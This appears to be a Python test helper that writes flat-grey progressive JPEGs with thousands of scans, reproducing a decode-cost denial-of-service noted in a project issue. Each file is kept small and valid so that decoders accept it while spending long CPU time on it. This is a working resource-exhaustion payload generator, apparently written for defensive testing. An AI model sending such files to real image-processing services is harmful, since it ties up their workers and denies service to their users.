"""Valid progressive JPEGs with as many scans as asked: the decode-cost attack of issue "Trust
boundaries" item 2 (a 2.8 MB 6000 x 6000 JPEG of 2,090 scans held a worker 44.6 s).

Encoders cannot be told to write thousands of scans (libjpeg's default script has 10, Pillow
and OpenCV take no script), and splicing copies of one scan breaks the progression rules,
which libjpeg-turbo reports as a warning (so a strict decoder refuses it at once instead of
spending time). So the file is written here from scratch: a flat grey image (every DCT
coefficient 0), 3 components at 1x1 sampling, one interleaved DC scan, then AC scans that
follow JPEG's progression rules (each coefficient band k of each component: a first scan at
Al=13, then refinements Ah=a, Al=a-1 down to 0), so libjpeg-turbo decodes it without a
warning. Each AC scan holds only end-of-band runs (a few bytes), yet the decoder visits every
block of the component in every scan: the cost is scans x pixels while the file stays small.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator

MAX_AL = 13  # the deepest successive approximation libjpeg accepts for 8-bit samples
COMPONENTS = 3
LONGEST_EOB_RUN = 32767  # EOB14 with 14 extra bits


def _segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


class _Bits:
    """MSB-first bit writer with JPEG's 0xFF byte stuffing, padded with 1 bits."""

    def __init__(self) -> None:
        self.out = bytearray()
        self.acc = 0
        self.count = 0

    def put(self, value: int, length: int) -> None:
        self.acc = (self.acc << length) | value
        self.count += length
        while self.count >= 8:
            self.count -= 8
            byte = (self.acc >> self.count) & 0xFF
            self.out.append(byte)
            if byte == 0xFF:
                self.out.append(0x00)
        self.acc &= (1 << self.count) - 1

    def flush(self) -> bytes:
        if self.count:
            self.put((1 << (8 - self.count)) - 1, 8 - self.count)
        return bytes(self.out)


def _eob_runs(blocks: int) -> bytes:
    """Entropy data of a band that is zero in every one of `blocks` blocks: EOB-run symbols
    r << 4 (run 2**r + r extra bits), coded by the AC table below (symbol r has code r, 4 bits)."""
    bits = _Bits()
    while blocks:
        run = min(blocks, LONGEST_EOB_RUN)
        r = run.bit_length() - 1
        bits.put(r, 4)
        if r:
            bits.put(run - (1 << r), r)
        blocks -= run
    return bits.flush()


def _ac_scans(component: int) -> Iterator[tuple[int, int, int, int]]:
    """(component, band k, Ah, Al) in an order the progression rules allow."""
    for k in range(1, 64):
        yield component, k, 0, MAX_AL
        for ah in range(MAX_AL, 0, -1):
            yield component, k, ah, ah - 1


def progressive_jpeg(width: int, height: int, scans: int) -> bytes:
    """A valid flat-grey progressive JPEG of `width` x `height` with exactly `scans` scans
    (1 DC scan + AC scans; at most 1 + 3 x 63 x 14 = 2,647)."""
    planned = [scan for c in range(COMPONENTS) for scan in _ac_scans(c)]
    if not 1 <= scans <= len(planned) + 1:
        raise ValueError(f"scans must be 1..{len(planned) + 1}")
    blocks = ((width + 7) // 8) * ((height + 7) // 8)  # per component, and MCUs (1x1 sampling)
    quant = _segment(0xDB, b"\x00" + b"\x01" * 64)
    frame = _segment(0xC2, struct.pack(">BHHB", 8, height, width, COMPONENTS)
                     + b"".join(bytes([c + 1, 0x11, 0]) for c in range(COMPONENTS)))
    dc_table = b"\x00" + bytes([1] + [0] * 15) + b"\x00"  # one symbol (difference 0), code '0'
    ac_table = b"\x10" + bytes([0, 0, 0, 15] + [0] * 12) + bytes(r << 4 for r in range(15))
    tables = _segment(0xC4, dc_table + ac_table)
    dc_bits = _Bits()
    for _ in range(blocks * COMPONENTS):
        dc_bits.put(0, 1)
    parts = [b"\xff\xd8", quant, frame, tables,
             _segment(0xDA, bytes([COMPONENTS]) + b"".join(bytes([c + 1, 0x00])
                                                            for c in range(COMPONENTS))
                      + bytes([0, 0, 0])),
             dc_bits.flush()]
    ac_data = _eob_runs(blocks)
    for component, k, ah, al in planned[:scans - 1]:
        parts.append(_segment(0xDA, bytes([1, component + 1, 0x00, k, k, (ah << 4) | al])))
        parts.append(ac_data)
    parts.append(b"\xff\xd9")
    return b"".join(parts)
